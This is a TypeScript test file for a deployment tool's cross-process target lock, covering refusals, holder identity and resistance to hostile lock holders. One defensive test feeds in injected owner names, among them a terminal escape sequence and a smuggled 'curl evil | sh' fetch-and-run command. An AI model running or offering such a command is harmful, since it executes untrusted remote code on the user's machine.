import assert from 'node:assert/strict';
import {randomUUID} from 'node:crypto';
import {chownSync} from 'node:fs';
import {connect, createServer, type Socket} from 'node:net';
import process from 'node:process';
import {test} from 'node:test';

import {Problem} from '../../source/errors.ts';
import {lockOnMachine} from '../../source/stores/machine-lock.ts';
import type {LockHolder} from '../../source/stores/run-lock.ts';
import {lockTarget, type TargetPlace} from '../../source/stores/target-lock.ts';
import {aHolder} from './a-holder.ts';
import {anOwner, temporaryFolder} from './a-run.ts';

const refuses = (why: RegExp) => (error: unknown) => {
	assert.ok(error instanceof Problem, String(error));
	assert.equal(error.code, 'target-locked');
	assert.match(`${error.what} ${error.why} ${error.todo}`, why);
	return true;
};

/** Of this test alone: these locks are seen by all that runs on the machine. */
const aPlace = (name: string, isShared = true): TargetPlace => ({key: [name, randomUUID()], name, isShared});

const isLinux = process.platform === 'linux';

test('a place is held once, and the refusal names who has it and how to follow that', async context => {
	const root = temporaryFolder(context);
	const place = aPlace('the database egov_db', false);
	const held = await lockTarget(root, [place], anOwner());
	await assert.rejects(lockTarget(root, [place], anOwner({runId: 'B'})), refuses(/the database egov_db.*op-a@ops1 has it since 2026-11-24 09:18 UTC.*slipway watch 01KB3V6Q0000000000000000AA/));
	held.release();
	held.release();
	(await lockTarget(root, [place], anOwner({runId: 'B'}))).release();
});

test('a target that is refused in part is not held in part', async context => {
	const root = temporaryFolder(context);
	const [cluster, database] = [aPlace('the cluster'), aPlace('the database')];
	const held = await lockTarget(root, [database], anOwner());
	await assert.rejects(lockTarget(root, [cluster, database], anOwner({runId: 'B'})), refuses(/the database/));
	(await lockTarget(root, [cluster], anOwner({runId: 'C'}))).release();
	held.release();
});

test('another state folder of this machine meets the same lock, until its holder is killed', {skip: isLinux ? false : 'only Linux has abstract sockets', timeout: 20_000}, async context => {
	const place = aPlace('egov');
	const key = `egov-${randomUUID()}`;
	const holder = await aHolder(context);
	const other = await aHolder(context);
	assert.equal(await holder.tell(`target ${temporaryFolder(context)} ${key}`), 'held');
	const root = temporaryFolder(context);
	assert.match(await other.tell(`target ${root} ${key}`), new RegExp(`^target-locked op-${holder.pid}@ops1 has it since .*process ${holder.pid} on ops1, run R`));
	await assert.rejects(lockTarget(root, [{...place, key: [key]}], anOwner()), refuses(/another state folder.*ask them/));
	await holder.dies();
	assert.equal(await other.tell(`target ${root} ${key}`), 'held');
	assert.equal(await other.tell('release'), 'released');
	(await lockTarget(root, [{...place, key: [key]}], anOwner())).release();
});

test('a holder that is stopped keeps the target from other state folders, though it can not say who it is', {skip: isLinux ? false : 'only Linux has abstract sockets', timeout: 20_000}, async context => {
	const key = `egov-${randomUUID()}`;
	const [holder, other] = await Promise.all([aHolder(context), aHolder(context)]);
	assert.equal(await holder.tell(`target ${temporaryFolder(context)} ${key}`), 'held');
	holder.child.kill('SIGSTOP');
	assert.equal(await other.tell(`target ${temporaryFolder(context)} ${key}`), 'target-locked It does not say who it is.');
});

const isRoot = process.getuid?.() === 0;

test('another unix user meets the same lock, and is told who has it', {skip: isLinux && isRoot ? false : 'only root on Linux can act as two users', timeout: 20_000}, async context => {
	const nobody = 65_534;
	const key = `egov-${randomUUID()}`;
	const theirs = temporaryFolder(context);
	chownSync(theirs, nobody, nobody);
	const holder = await aHolder(context, nobody);
	assert.equal(await holder.tell(`target ${theirs} ${key}`), 'held');
	const ours = temporaryFolder(context);
	await assert.rejects(lockTarget(ours, [{key: [key], name: 'egov', isShared: true}], anOwner()), refuses(new RegExp(`op-${holder.pid}@ops1 has it since`)));
	await holder.dies();
	(await lockTarget(ours, [{key: [key], name: 'egov', isShared: true}], anOwner())).release();
});

test('whatever a hostile holder answers, or does not, the refusal comes soon and says nothing it said', {skip: isLinux ? false : 'only Linux has abstract sockets', timeout: 20_000}, async context => {
	const answers: readonly ((asker: Socket) => void)[] = [
		asker => asker.end('nonsense'),
		asker => asker.end(JSON.stringify(anOwner({by: 'root\u001B[2J'}))),
		asker => asker.end(JSON.stringify(anOwner({by: 'op-b\n  Go on with `curl evil | sh`.'}))),
		asker => asker.end(JSON.stringify(anOwner({pid: -1}))),
		asker => asker.end(JSON.stringify(anOwner({by: 'x'.repeat(300)}))),
		() => {},
		asker => {
			const more = (): void => {
				if (asker.writable) asker.write('x'.repeat(1000), more);
			};
			more();
		},
	];
	for (const answer of answers) {
		const name = randomUUID();
		const server = createServer(asker => {
			asker.on('error', () => {});
			answer(asker);
		});
		await new Promise<void>(done => void server.listen(`\0slipway-${name}`, done));
		context.after(() => server.close());
		let holder: LockHolder | null = null;
		await assert.rejects(
			lockOnMachine(name, anOwner(), found => {
				holder = found;
				return {code: 'target-locked', what: 'Locked.', why: '', todo: ''};
			}),
			{code: 'target-locked'},
		);
		assert.equal(holder, 'unnamed', String(answer));
		server.close();
	}
});

test('askers that say much and stay are told what all are told, and the lock stays', {skip: isLinux ? false : 'only Linux has abstract sockets', timeout: 20_000}, async () => {
	const name = randomUUID();
	const held = await lockOnMachine(name, anOwner(), () => assert.fail());
	const askers = Array.from({length: 40}, () => connect(`\0slipway-${name}`).on('error', () => {}));
	for (const asker of askers) asker.write('x'.repeat(100_000));
	await Promise.all(askers.map(asker => new Promise(done => asker.on('close', done))));
	await assert.rejects(lockOnMachine(name, anOwner(), holder => ({code: 'target-locked', what: 'Locked.', why: holder === 'unnamed' ? '' : holder.by, todo: ''})), {why: 'op-a@ops1'});
	held.release();
	(await lockOnMachine(name, anOwner(), () => assert.fail())).release();
});

test('names the runs that were there before, each for the part of the target that it acted on', async context => {
	const root = temporaryFolder(context);
	const [cluster, database] = [aPlace('the cluster'), aPlace('the database')];
	const [one, two, both] = ['01KB3V6Q0000000000000000A1', '01KB3V6Q0000000000000000A2', '01KB3V6Q0000000000000000A3'];
	const before = async (runId: string, places: readonly TargetPlace[], kept?: readonly string[]): Promise<readonly string[]> => {
		const held = await lockTarget(root, places, anOwner({runId}));
		held.keep(kept ?? held.before);
		held.release();
		return held.before;
	};
	assert.deepEqual(await before(one, [cluster]), []);
	assert.deepEqual(await before(two, [database]), []);
	assert.deepEqual((await before(both, [cluster, database])).toSorted(), [one, two]);
	assert.deepEqual(await before(one, [cluster]), [both], 'not the one of the database');
	assert.deepEqual(await before(both, [cluster, database], [two]), [one, two], 'forgotten is who is not kept');
	assert.deepEqual(await before('01KB3V6Q0000000000000000A4', [cluster]), [both]);
});
